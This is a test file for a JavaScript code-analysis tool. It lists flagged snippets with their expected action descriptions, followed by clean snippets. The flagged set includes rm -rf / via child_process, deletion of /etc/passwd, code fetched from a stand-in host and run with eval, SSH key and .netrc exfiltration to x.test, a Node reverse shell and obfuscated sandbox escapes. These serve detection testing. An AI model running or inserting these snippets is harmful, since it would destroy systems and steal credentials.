import { testCode } from "../support/code-acts.ts";

testCode("javascript", {
  flagged: [
    ['require("child_process").execSync("rm -rf /")', "shell rm -rf /"],
    ['const { exec: e } = require("node:child_process"); e("id")', "shell id"],
    [
      'const cp = require("child_process"); cp.spawn("rm", ["-rf", "/etc"], ' + '{ cwd: "/" })',
      "run rm -rf /etc in /",
    ],
    ['import { rmSync as r } from "fs"; r("/srv", { recursive: true })', "delete /srv recursive"],
    [
      'require("fs").writeFileSync("/home/dev/.profile", "DATA")',
      "write truncate /home/dev/.profile = DATA",
    ],
    [
      'const fs = require("fs"); fs.appendFileSync(process.env.HOME + ' + '"/.bashrc", `x`)',
      "write append /home/dev/.bashrc = x",
    ],
    ['require("fs").promises.unlink("a").then(() => 1)', "delete a"],
    ['import("fs").then(fs => fs.unlinkSync("/etc/passwd"))', "delete /etc/passwd"],
    ['["a", "b"].forEach(f => require("fs").unlinkSync("/etc/" + f))', "delete /etc/a|/etc/b"],
    ['for (const f of ["a", "b"]) { if (f) require("fs").rmdirSync(f) }', "delete a|b"],
    [
      'fetch("http://x.test/a").then(r => r.text()).then(t => eval(t))',
      "connect http://x.test/a",
      "code … {network}",
    ],
    [
      'require("https").get("https://x.test/a", res => { let d = ""; ' +
        'res.on("data", c => d += c); res.on("end", () => eval(d)) })',
      "code … {network}",
      "connect https://x.test/a",
    ],
    [
      'fetch("https://x.test", { method: "POST", body: ' +
        'require("fs").readFileSync("/home/dev/.ssh/id_rsa") })',
      "read /home/dev/.ssh/id_rsa",
      "connect https://x.test sends … {secret} {network}",
    ],
    [
      'require("fs").createReadStream("/home/dev/.netrc").pipe(requ' +
        'ire("http").request("http://x.test/a"))',
      "connect http://x.test/a sends … {secret} {network}",
      "read /home/dev/.netrc",
    ],
    [
      'const net = require("net"), sh = ' +
        'require("child_process").spawn("/bin/sh", []); const c = new ' +
        'net.Socket(); c.connect(4242, "10.0.0.1", () => { c.pipe(sh.stdin) })',
      "run /bin/sh",
      "connect 10.0.0.1:4242 for shell",
    ],
    ['[]["constructor"]["constructor"]("x")()', "? it takes constructor of a value"],
    ['const k = "con" + "structor"; [][k][k]("x")()', "? it takes constructor of a value"],
    [
      'new Function("return process")().exit()',
      "code return process",
      "? it calls what is computed",
    ],
    [
      'globalThis.process.mainModule.require("child_process")',
      "? it takes mainModule of a value",
      "? it calls globalThis.process.mainModule.require",
    ],
    ['const f = require; f("child_process").execSync("x")', "shell x"],
    ['const x = { r: require }; x.r("child_process").execSync("x")', "shell x"],
    [
      '(({ a: b = require("fs").rmSync("/", { recursive: true }) }) => 1)({})',
      "delete / recursive",
    ],
    ['class A { static x = require("child_process").execSync("x") }', "shell x"],
    ["require(process.argv[2])", "? it loads a library whose name is computed"],
    ['Reflect.get(process, "exit")', "? it hides what it calls", "? it hands process over"],
    ['const v = {}; v[process.argv[2]]("x")', "? it calls what is computed"],
    ['require("./a.js")', "load ./a.js"],
    [
      'require("http").createServer((q, r) => r.end("x")).listen(3000, "127.0.0.1")',
      "listen application at 127.0.0.1",
    ],
    ['const cp = require("child_process"); cp["ex" + "ecSync"](`rm ${"-rf"} /`)', "shell rm -rf /"],
    ['process.kill(1, "SIGKILL")', "run kill -- 1"],
    ['process.chdir("/srv"); require("fs").unlinkSync("x")', "delete /srv/x"],
    ["if (1) /'/; eval(\"x\"); /'/", '? "/\'/; eval(\\"x" in it is not read'],
    ['require("lodash").template("x"); require("shelljs").rm("-rf", "/")', "? it calls shelljs.rm"],
  ],
  clean: [
    "console.log(1 + 1)",
    'console.log(require("./package.json").version)',
    'const { version } = require("./package.json"); console.log("v" + version)',
    "console.log(JSON.stringify({ a: [1, 2].map(x => x * 2) }, null, 2))",
    'console.log(require("fs").readFileSync("README.md", ' + '"utf8").split("\\n").length)',
    'const fs = require("fs"); console.log(fs.existsSync("a"), ' +
      'fs.readdirSync(".").filter(f => f.endsWith(".ts")))',
    "console.log(process.version, process.platform, process.env.PATH, " + "process.argv.slice(2))",
    'console.log(require("crypto").randomBytes(32).toString("hex"))',
    'Object.entries(require("./package.json").dependencies || {}).forEach(([k, ' +
      "v]) => console.log(`${k}@${v}`))",
    'let d = ""; process.stdin.on("data", c => d += c).on("end", () => { ' +
      "const j = JSON.parse(d); console.log(j.name) })",
    'try { require.resolve("typescript"); console.log("ok") } catch (e) { ' +
      "console.log(e.message); process.exit(1) }",
    'const a = require("lodash"); console.log(a.chunk([1, 2, 3], 2))',
    'console.log(/a"b/.test("c"), 4 / 2 / 1, "x".replace(/x/g, "y"))',
    "const f = (a, b = 2, ...c) => { return a + b }; console.log(f(1))",
    "function g({ a, b: [c] }) { for (let i = 0; i < a; i++) { if (i % 2) " +
      "continue; else c.push(i) } return c } console.log(g({ a: 3, b: [[]] }))",
    "class A { #x = 1; get x() { return this.#x } static y() { return new A() } } " +
      "console.log(A.y().x)",
    'console.log([..."abc"].reverse().join(""), Math.max(...[1, 2]), new ' +
      "Date().toISOString())",
    '(async () => { const m = await import("./src/index.json"); console.log(m) })',
    'import { readFileSync as r } from "node:fs"; console.log(r("a.txt", ' + '"utf8").length)',
    'const path = require("path"); console.log(path.join("a", "..", "b"), ' + 'path.resolve("x"))',
    'switch (process.platform) { case "linux": console.log(1); break; default: ' +
      "console.log(2) }",
    'console.log(typeof x === "undefined" ? null : x?.y ?? 3)',
    'const o = { a: 1, ["b"]: 2, c() { return 3 }, ...{ d: 4 } }; ' +
      "console.log(o.c(), Object.keys(o))",
    'console.log(Buffer.from("aGk=", "base64").toString())',
    "label: while (true) { do { break label } while (false) }",
    'console.log(encodeURIComponent("a b"), parseInt("10", 2), [3, 1].sort((a, ' + "b) => a - b))",
    'setTimeout(() => console.log("x"), 10)',
    'const { a = 1, b: { c } = {} } = JSON.parse("{}"); console.log(a, c)',
  ],
});
